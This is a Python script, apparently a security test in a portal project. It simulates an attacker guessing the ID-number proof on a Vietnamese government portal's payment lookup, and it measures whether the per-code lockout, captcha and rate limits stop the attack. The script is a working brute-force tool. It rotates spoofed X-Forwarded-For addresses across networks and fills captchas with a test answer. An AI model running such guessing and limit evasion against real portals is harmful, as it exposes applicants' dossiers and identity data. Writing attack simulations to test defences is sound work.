#!/usr/bin/env python3
"""The attacker's program against the pay lookup (`/thanh-toan`, issue 22 item 4).

Someone who knows (or guesses: they are sequential) a dossier's receipt code tries to open its
payment page without an account, where the portal asks for "proof" that they know the dossier.
Before issue 22 the proof was the last four digits of the applicant's ID number *or* phone, and
the only limit was 30 tries a minute per client address. After it, the proof is the applicant's
full ID number (12 digits), a captcha is asked after 5 wrong tries on the code, and after 20 the
code is closed for an hour (its owner is told by SMS); wrong tries are also limited per address
and network.

The attacker here is generous to itself:
  --rotate     sends every try from a fresh address (X-Forwarded-For; the portal must run with
               PORTAL_TRUST_FORWARDED_FOR=true), as a botnet or a pool of proxies would, spread
               over many /24 networks: address and network limits never bite;
  --solver A   "solves" every captcha with answer A (the test portal's PORTAL_TEST_CAPTCHA_ANSWER),
               i.e. a perfect solver, better than any real one.
So what stops it, if anything, is the per-code counter and the size of the answer space.

Guesses: `--mode digits` tries 0000..9999 (the old four-digit proof; both the ID's and the
phone's tails are hits), `--mode full` tries 12-digit numbers with the applicant's province
prefix known (056, Khánh Hòa) and the rest drawn at random (a real attacker knows no more).

Standard library only. Prints a JSON report: tries sent, tries the portal actually checked,
refusals by kind, whether and at which try the dossier opened, the time taken and the checked
tries per hour; exits 0.

Example:
  scripts/attack/pay_lookup_guess.py --base http://127.0.0.1:3500 \
      --code 000.00.60.H15-261201-0035 --mode full --rotate --solver kiemthu --max-tries 200
"""

import argparse
import base64
import http.cookiejar
import json
import random
import re
import time
import urllib.error
import urllib.parse
import urllib.request


class NoRedirect(urllib.request.HTTPRedirectHandler):
    def redirect_request(self, req, fp, code, msg, headers, newurl):
        return None


class Client:
    """A browser without JavaScript: its own cookies, no redirects followed."""

    def __init__(self, base, ip=None):
        self.base = base.rstrip("/")
        self.ip = ip
        self.jar = http.cookiejar.CookieJar()
        self.opener = urllib.request.build_opener(
            urllib.request.HTTPCookieProcessor(self.jar), NoRedirect()
        )

    def request(self, path, data=None):
        headers = {"Accept": "text/html", "Origin": self.base, "Referer": self.base + "/thanh-toan"}
        if self.ip:
            headers["X-Forwarded-For"] = self.ip
        body = urllib.parse.urlencode(data).encode() if data is not None else None
        req = urllib.request.Request(self.base + path, data=body, headers=headers)
        try:
            with self.opener.open(req, timeout=30) as res:
                return res.status, res.headers.get("Location", ""), res.read().decode("utf-8", "replace")
        except urllib.error.HTTPError as e:
            return e.code, e.headers.get("Location", ""), e.read().decode("utf-8", "replace")


def error_text(client, status, location, body):
    """The refusal's words: from the `__err` the old forms put in the address, else from the
    page the refusal leads to (the session keeps it), else the body."""
    if "__err=" in location:
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(location).query)
        for raw in q.get("__err", []):
            try:
                return base64.urlsafe_b64decode(raw + "=" * (-len(raw) % 4)).decode("utf-8", "replace")
            except Exception:
                pass
    if location.startswith(client.base) or location.startswith("/"):
        path = location[len(client.base):] if location.startswith(client.base) else location
        _, _, page = client.request(path)
        m = re.search(r'role="alert".*?</div>', page, re.S)
        return m.group(0) if m else page
    return body


def classify(text):
    if "tạm khóa tra cứu" in text:
        return "code_closed"
    if "Mã xác thực" in text and ("không đúng" in text or "hết hạn" in text):
        return "captcha"
    if "quá nhiều" in text or "Thử lại sau" in text or "thử lại sau" in text:
        return "throttled"
    if "Không tìm thấy" in text:
        return "wrong"
    if "Nhập" in text:
        return "invalid"
    return "other"


def captcha_id(page):
    m = re.search(r'name="f\[captcha_id\]" value="([^"]+)"', page)
    return m.group(1) if m else None


def guesses(mode, seed):
    rnd = random.Random(seed)
    if mode == "digits":
        for n in range(10_000):
            yield f"{n:04d}"
    else:
        seen = set()
        while True:
            g = "056" + f"{rnd.randrange(10**9):09d}"
            if g not in seen:
                seen.add(g)
                yield g


def fresh_ip(rnd):
    # A new /24 each time: address and network limits never see the same source twice.
    return f"{rnd.randrange(11, 223)}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--base", required=True)
    ap.add_argument("--code", required=True, help="the dossier's receipt code")
    ap.add_argument("--mode", choices=["digits", "full"], default="full")
    ap.add_argument("--max-tries", type=int, default=10_000)
    ap.add_argument("--rotate", action="store_true", help="a fresh X-Forwarded-For per try")
    ap.add_argument("--solver", default=None, help="answer every captcha with this (perfect solver)")
    ap.add_argument("--seed", type=int, default=22)
    args = ap.parse_args()

    rnd = random.Random(args.seed)
    counts = {}
    checked = 0
    opened_at = None
    started = time.time()
    sent = 0
    for guess in guesses(args.mode, args.seed):
        if sent >= args.max_tries:
            break
        sent += 1
        client = Client(args.base, fresh_ip(rnd) if args.rotate else None)
        form = {"f[code]": args.code, "f[digits]": guess, "f[id_number]": guess}
        status, location, body = client.request("/api/pay/lookup", form)
        kind = None if "/thanh-toan/ho-so/" in location else classify(error_text(client, status, location, body))
        if kind == "captcha" and args.solver:
            # The form now shows a captcha (the session has the code): "solve" it, try again.
            _, _, page = client.request("/thanh-toan")
            cid = captcha_id(page)
            if cid:
                form["f[captcha_id]"] = cid
                form["f[captcha_answer]"] = args.solver
                status, location, body = client.request("/api/pay/lookup", form)
        if "/thanh-toan/ho-so/" in location:
            opened_at = sent
            counts["opened"] = counts.get("opened", 0) + 1
            checked += 1
            break
        kind = classify(error_text(client, status, location, body))
        counts[kind] = counts.get(kind, 0) + 1
        if kind == "wrong":
            checked += 1
        if kind == "code_closed" and counts[kind] >= 3:
            # Closed: further tries this hour are refused without being checked.
            break
    elapsed = time.time() - started
    space = 10_000 if args.mode == "digits" else 10**9
    report = {
        "mode": args.mode,
        "rotate_addresses": args.rotate,
        "perfect_captcha_solver": bool(args.solver),
        "tries_sent": sent,
        "tries_checked": checked,
        "refusals": counts,
        "opened": opened_at is not None,
        "opened_at_try": opened_at,
        "seconds": round(elapsed, 1),
        "answer_space": space,
    }
    if opened_at is None and checked:
        # How long the whole space would take at the rate the portal let tries be checked:
        # per hour of the per-code closing when the code closed, else at the measured speed.
        per_hour = checked if "code_closed" in counts else checked / max(elapsed, 1e-9) * 3600
        report["checked_tries_per_hour"] = round(per_hour, 1)
        report["expected_hours_to_open"] = round(space / 2 / per_hour, 1)
    print(json.dumps(report, ensure_ascii=False, indent=2))


if __name__ == "__main__":
    main()
